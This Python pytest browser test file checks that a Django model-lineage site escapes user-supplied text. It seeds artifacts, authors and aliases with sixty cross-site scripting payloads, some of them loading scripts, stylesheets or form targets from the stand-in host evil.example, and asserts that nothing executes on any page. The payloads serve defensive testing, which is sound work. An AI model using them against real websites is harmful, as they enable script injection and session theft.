"""Everything from the Hub is text that someone chose: none of it runs, on any page, in a real browser."""

import pytest
from django.urls import reverse

from access.roles import Role
from lineage.models import Artifact, Mention
from lineage.vocabulary import AccountKind, Field, Kind, Relation
from tests.factories import make_alias, make_artifact, make_author, make_derivation

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

# Each would raise a dialog, or trip the content policy, if it stood on a page unescaped.
ELEMENTS = [
    "",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<iframe onload=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<button autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>x</button></form>",
    "<isindex action=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "",
][1:-1]
BREAKS = [
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{ 7|add:7 }}{% debug %}${alert(1)}",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\u202e\u2066<img src=x onerror=alert(1)>\u2029\u2028\x0b",
]
PAYLOADS = ELEMENTS + BREAKS


@pytest.fixture
def hostile():
    """One node from which sixty others were made; each payload is an id, tag, licence, account, old name and target."""
    owner = make_author("owner", kind=AccountKind.ORGANISATION, full_name=PAYLOADS[0])
    node = make_artifact("owner/node", tags=PAYLOADS, languages=PAYLOADS[:10], author=owner)
    for number, payload in enumerate(PAYLOADS):
        made = make_artifact(
            f"owner/{payload}", author=owner, license=payload, task=payload[:64], library=payload[:64], parent=node
        )
        make_derivation(node, made)
        make_alias(payload, made)
        make_author(payload, kind=AccountKind.ORGANISATION, full_name=payload)
        for name in (payload, f"{payload}/{number}"):
            Mention.objects.create(
                artifact=made,
                target=name,
                target_kind=Kind.MODEL,
                field=Field.BASE_MODEL_CARD,
                relation=Relation.FINETUNE,
                position=number,
            )
    return node


def listed(node):
    """Every page on which many of them stand together."""
    yield from (reverse("lineage:artifact", args=[node.pk]), reverse("lineage:branch", args=[node.pk]))
    yield from (f"{reverse('lineage:trace', args=[node.pk])}?page={page}" for page in (1, 2))
    yield from (f"{reverse('lineage:author', args=[node.author_id])}?page={page}" for page in (1, 2))
    for name in ("modelartifact", "author", "alias", "derivation"):
        yield from (f"{reverse(f'admin:lineage_{name}_changelist')}?p={page}" for page in (1, 2))
    yield reverse("admin:lineage_modelartifact_change", args=[node.pk])
    yield reverse("admin:lineage_author_change", args=[node.author_id])


def serious(complaints):
    """Without the icon that a browser looks for where a piece of page names none."""
    return [said for said in complaints if "404 (Not Found)" not in said]


def test_there_are_sixty():
    assert len(set(PAYLOADS)) == 60


@pytest.mark.parametrize("role", [Role.SUPERVISOR, Role.RESEARCHER])
def test_nothing_runs_where_they_stand_together(hostile, live_server, page, context, sign_in, complaints, role):
    sign_in(context, role)
    for address in listed(hostile):
        if role == Role.SUPERVISOR or not address.startswith("/admin/"):
            page.goto(live_server.url + address)
            assert serious(complaints) == [], address
    page.goto(live_server.url)
    for text in ("alert", "<script", "javascript:"):
        page.get_by_role("searchbox").fill(text)
        page.keyboard.press("Enter")
        page.wait_for_load_state("networkidle")
        assert serious(complaints) == [], text


def test_nothing_runs_on_a_page_of_its_own(hostile, live_server, page, context, sign_in, complaints):
    sign_in(context, Role.SUPERVISOR)
    for key, name in Artifact.objects.exclude(pk=hostile.pk).values_list("pk", "repo_id"):
        page.goto(live_server.url + reverse("lineage:artifact", args=[key]))
        assert serious(complaints) == [], name
        assert page.locator("h1").count() == 1
